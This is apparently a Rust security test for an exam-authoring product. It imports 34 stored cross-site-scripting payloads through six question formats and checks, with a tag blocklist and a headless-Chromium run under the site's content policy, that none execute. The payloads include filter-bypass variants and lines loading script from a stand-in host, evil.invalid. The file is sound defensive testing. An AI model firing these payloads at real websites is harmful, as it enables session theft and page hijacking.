//! Stored scripts in the text of questions: what every import format lets through is shown by a real
//! browser under the product's own policy, and nothing of it runs.

use super::support::{generous, list, workbook_of};
use super::wire::Ask;
use keju_tests::kit::{Bank, Client, Site, id, json::text, slots};
use serde_json::{Value, json};
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::mpsc;
use std::time::Duration;

/// Each sets the page's title, were it to run.
const PAYLOADS: [&str; 34] = [
    "<script>document.title='RAN'</script>",
    "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
    "<scr<script>ipt>document.title='RAN'</scr</script>ipt>",
    "<img src=x onerror=document.title='RAN'>",
    "<img src=x onerror=\"document.title='RAN'\" /",
    "<img/src='x'/onerror=document.title='RAN'>",
    "<img src=\"x` `<script>document.title='RAN'</script>\"` `>",
    "<svg onload=document.title='RAN'>",
    "<svg><script>document.title='RAN'</script></svg>",
    "<svg><style><img src=x onerror=document.title='RAN'></style></svg>",
    "<svg><a xlink:href=\"javascript:document.title='RAN'\"><text>x</text></a></svg>",
    "<svg><animate onbegin=document.title='RAN' attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=document.title='RAN'&gt;\"></table></mtext></math>",
    "<math><maction actiontype=statusline xlink:href=\"javascript:document.title='RAN'\">x</maction></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=document.title='RAN'>\">",
    "<body onload=document.title='RAN'>",
    "<iframe src=\"javascript:parent.document.title='RAN'\"></iframe>",
    "<iframe srcdoc=\"<script>parent.document.title='RAN'</script>\"></iframe>",
    "<object data=\"javascript:document.title='RAN'\"></object>",
    "<embed src=\"data:text/html,<script>parent.document.title='RAN'</script>\">",
    "<a href=\"javascript:document.title='RAN'\" autofocus onfocus=document.title='RAN'>x</a>",
    "<a href=\"jav&#x09;ascript:document.title='RAN'\">x</a>",
    "<a href=\"data:text/html,<script>document.title='RAN'</script>\">x</a>",
    "<details open ontoggle=document.title='RAN'>x</details>",
    "<input autofocus onfocus=document.title='RAN'>",
    "<video><source onerror=document.title='RAN'></video>",
    "<form action=\"javascript:document.title='RAN'\"><button autofocus onfocus=document.title='RAN'>x</button></form>",
    "<meta http-equiv=refresh content=\"0;url=javascript:document.title='RAN'\">",
    "<base href=\"//evil.invalid/\"><link rel=stylesheet href=\"x.css\">",
    "<style>@import 'javascript:document.title=\"RAN\"'; *{animation:a}</style><b style=\"animation:a\" onanimationstart=document.title='RAN'>x</b>",
    "<template><img src=x onerror=document.title='RAN'></template>",
    "<xmp><img title=\"</xmp><img src=x onerror=document.title='RAN'>\"></xmp>",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='document.title=1'/>\" onload=document.title='RAN'>",
    "<p id=\"x\" onclick=document.title='RAN' onmouseover=document.title='RAN'>\\(<img src=x onerror=document.title='RAN'>\\)</p>",
];

/// The corpus as a file of every format: each payload is a stem, an option and an explanation.
fn files() -> Vec<(&'static str, Vec<u8>)> {
    let numbered: Vec<(usize, &str)> = PAYLOADS.into_iter().enumerate().collect();
    let native: Vec<Value> = numbered
        .iter()
        .map(|(number, payload)| {
            json!({"kind": "single_choice", "stem": format!("题{number} {payload}"), "explanation": format!("析{number} {payload}"),
                "options": [{"text": format!("甲{number} {payload}"), "correct": true, "feedback": payload}, {"text": format!("乙{number}")}]})
        })
        .collect();
    let flat = |payload: &str| payload.replace(['\n', '\r'], " ");
    let header = ["题型", "题干", "选项A", "选项B", "答案", "解析"].map(str::to_owned).to_vec();
    let rows: Vec<Vec<String>> = std::iter::once(header)
        .chain(numbered.iter().map(|(number, payload)| {
            vec![
                "单选题".into(),
                format!("表{number} {payload}"),
                format!("甲{number} {payload}"),
                format!("乙{number}"),
                "A".into(),
                (*payload).to_owned(),
            ]
        }))
        .collect();
    let mut csv = csv::Writer::from_writer(Vec::new());
    rows.iter().for_each(|row| csv.write_record(row).unwrap());
    let gift_escaped = |payload: &str| {
        let special = |c: char| if "~=#{}:\\".contains(c) { format!("\\{c}") } else { c.to_string() };
        payload.chars().map(special).collect::<String>()
    };
    let gift: String = numbered
        .iter()
        .map(|(number, payload)| {
            let payload = gift_escaped(payload);
            let format = ["html", "markdown", "plain", "moodle"][number % 4];
            format!("::题{number}::[{format}]礼{number} {payload} {{={number} 甲 {payload} ~{number} 乙 #{payload} ####{payload}}}\n\n")
        })
        .collect();
    let cdata = |text: &str| format!("<![CDATA[{}]]>", text.replace("]]>", ""));
    let moodle: String = numbered
        .iter()
        .map(|(number, payload)| {
            let words = cdata(payload);
            format!(
                "<question type=\"multichoice\"><name><text>{number}</text></name><questiontext format=\"html\"><text>{}</text></questiontext>\
                 <generalfeedback format=\"html\"><text>{words}</text></generalfeedback><single>true</single>\
                 <answer fraction=\"100\" format=\"html\"><text>{}</text><feedback><text>{words}</text></feedback></answer>\
                 <answer fraction=\"0\"><text>乙{number}</text></answer></question>",
                cdata(&format!("魔{number} {payload}")),
                cdata(&format!("甲{number} {payload}")),
            )
        })
        .collect();
    let aiken: String = numbered
        .iter()
        .map(|(number, payload)| {
            format!("肯{number} {0}\nA. 甲{number} {0}\nB. 乙{number}\nANSWER: A\n\n", flat(payload))
        })
        .collect();
    vec![
        ("json", json!({"format": "keju-bank/1", "items": native}).to_string().into_bytes()),
        ("csv", csv.into_inner().unwrap()),
        ("xlsx", workbook_of(&rows)),
        ("gift", gift.into_bytes()),
        ("moodle_xml", format!("<?xml version=\"1.0\"?><quiz>{moodle}</quiz>").into_bytes()),
        ("aiken", aiken.into_bytes()),
    ]
}

/// Everything that a learner's page shows of an exam made of all that was let in, explanations too.
async fn shown(site: &Site, learner: &Client, bank: &str, items: u64) -> Vec<String> {
    let section = json!({"title": "x", "count": items, "points": 1, "quotas": []});
    let rules = json!({"bank": bank, "blueprint": {"sections": [section]}, "pass_score": 0, "review": "full", "practice": "off"});
    let exam = site.exam(&rules).await;
    let attempt = learner.start(&exam, "exam").await.ok(201);
    let mut shown = Vec::new();
    for slot in slots(&attempt) {
        shown.push(text(&slot["stem"]).to_owned());
        shown.extend(list(&slot["options"]).iter().map(|option| text(&option["text"]).to_owned()));
    }
    let result = learner.submit(&id(&attempt)).await.ok(200);
    shown.extend(list(&result["review"]).iter().filter_map(|slot| slot["explanation"].as_str()).map(str::to_owned));
    shown
}

/// What stands between `<` and `>`: nothing else of a text can do anything.
fn tags(html: &str) -> impl Iterator<Item = &str> {
    html.split('<').skip(1).map(|rest| rest.split('>').next().unwrap_or_default())
}

fn harmless(html: &str) -> Result<(), String> {
    const ELEMENTS: [&str; 14] = [
        "script", "iframe", "object", "embed", "svg", "math", "style", "link", "meta", "base", "form", "input",
        "template", "noscript",
    ];
    for tag in tags(html) {
        let tag = tag.to_lowercase();
        let name = tag.trim_start_matches('/').split(|c: char| !c.is_ascii_alphanumeric()).next().unwrap_or_default();
        if ELEMENTS.contains(&name) {
            return Err(format!("element {name} in {html}"));
        }
        let attributes = tag.split(['"', '\'']).step_by(2);
        for attribute in attributes.flat_map(|part| part.split([' ', '/', '\t', '\n'])) {
            let name = attribute.split('=').next().unwrap_or_default();
            if name.starts_with("on") && name.len() > 3 || name == "srcdoc" || name == "style" {
                return Err(format!("attribute {name} in {html}"));
            }
        }
        if tag.contains("javascript:")
            || tag.contains("data:text")
            || tag.contains("data:image/svg")
            || tag.contains("evil.invalid")
        {
            return Err(format!("a link that does something in {html}"));
        }
    }
    Ok(())
}

#[tokio::test]
async fn stored_scripts_in_question_text() {
    let site = Site::start_with(generous(""), Bank::generated(2, false)).await;
    let learner = site.learner().await;
    let mut everything = Vec::new();
    for (format, file) in files() {
        let body = json!({"code": format, "title": format});
        let bank = id(&site.author.post("/banks", &body).await.ok(201));
        let report = site.author.import(&bank, "x", file, format, false).await.ok(200);
        let items = report["accepted"].as_u64().unwrap() + report["warned"].as_u64().unwrap();
        assert!(items as usize >= PAYLOADS.len() / 2, "{format}: {report:#}");
        let shown = shown(&site, &learner, &bank, items).await;
        assert!(shown.len() >= 3 * items as usize, "{format}");
        for html in &shown {
            harmless(html).unwrap_or_else(|told| panic!("{format}: {told}"));
        }
        everything.extend(shown);
    }
    let page = Ask::new("GET", "/").send(site.server.address()).expect(200);
    let policy = page.header("content-security-policy").unwrap();
    in_a_browser(&everything, policy);
}

/// Shows it in Chromium: with the product's policy, without it, and then what must run, to prove that it would.
fn in_a_browser(shown: &[String], policy: &str) {
    let Some(chromium) = chromium() else {
        println!("no Chromium here: the browser's part of this test did not run");
        return;
    };
    let raw: Vec<String> = PAYLOADS.map(str::to_owned).to_vec();
    assert_eq!(title(&chromium, &raw, None), "RAN", "the corpus does nothing: it would prove nothing");
    assert_eq!(title(&chromium, shown, Some(policy)), "quiet", "a script ran");
    assert_eq!(title(&chromium, shown, None), "quiet", "only the policy stopped a script");
    assert_eq!(title(&chromium, &raw, Some(policy)), "quiet", "the policy alone stops nothing");
}

fn chromium() -> Option<PathBuf> {
    let path = std::env::var_os("PATH")?;
    let names = ["chromium", "chromium-browser", "google-chrome"];
    std::env::split_paths(&path).flat_map(|folder| names.map(|name| folder.join(name))).find(|file| file.is_file())
}

/// The title of a page of these texts after it has loaded.
fn title(chromium: &PathBuf, texts: &[String], policy: Option<&str>) -> String {
    let body: String = texts.iter().map(|html| format!("<div>{html}</div>\n")).collect();
    let page = format!(
        "<!doctype html><html><head><meta charset=\"utf-8\"><title>quiet</title></head><body>{body}</body></html>"
    );
    let policy = policy.map_or_else(String::new, |policy| format!("Content-Security-Policy: {policy}\r\n"));
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/", listener.local_addr().unwrap());
    let done = AtomicBool::new(false);
    std::thread::scope(|scope| {
        scope.spawn(|| serve(&listener, &page, &policy, &done));
        let profile = tempfile::tempdir().unwrap();
        let mut command = Command::new(chromium);
        command
            .args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"])
            .args(["--disable-component-update", "--disable-sync", "--no-first-run", "--no-proxy-server"])
            .args(["--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1", "--virtual-time-budget=3000"])
            .arg(format!("--user-data-dir={}", profile.path().display()))
            .args(["--dump-dom", &url]);
        let page = run_for(command, Duration::from_secs(120));
        done.store(true, Ordering::Relaxed);
        // One more connection, so that whoever waits for it looks up.
        let _ = std::net::TcpStream::connect(listener.local_addr().unwrap());
        let title = page.split("<title>").nth(1).and_then(|rest| rest.split("</title>").next());
        title.unwrap_or_else(|| panic!("no page came out: {page:.500}")).to_owned()
    })
}

fn serve(listener: &TcpListener, page: &str, policy: &str, done: &AtomicBool) {
    while let Ok((mut stream, _)) = listener.accept() {
        if done.load(Ordering::Relaxed) {
            return;
        }
        let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
        let mut request = [0; 4_096];
        let count = stream.read(&mut request).unwrap_or(0);
        let found = request[..count].starts_with(b"GET / ");
        let (status, body) = if found { ("200 OK", page) } else { ("404 Not Found", "") };
        let head = format!(
            "HTTP/1.1 {status}\r\nContent-Type: text/html; charset=utf-8\r\n{policy}Content-Length: {}\r\nConnection: close\r\n\r\n",
            body.len()
        );
        let _ = stream.write_all(head.as_bytes()).and_then(|()| stream.write_all(body.as_bytes()));
    }
}

/// Its standard output; killed when it takes too long.
fn run_for(mut command: Command, most: Duration) -> String {
    let mut child = command.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::null()).spawn().unwrap();
    let mut stdout = child.stdout.take().unwrap();
    let (sender, whole) = mpsc::channel();
    std::thread::spawn(move || {
        let mut text = Vec::new();
        let _ = stdout.read_to_end(&mut text);
        let _ = sender.send(String::from_utf8_lossy(&text).into_owned());
    });
    let text = whole.recv_timeout(most);
    let _ = child.kill();
    child.wait().unwrap();
    text.unwrap_or_else(|_| panic!("the browser did not end within {most:?}"))
}
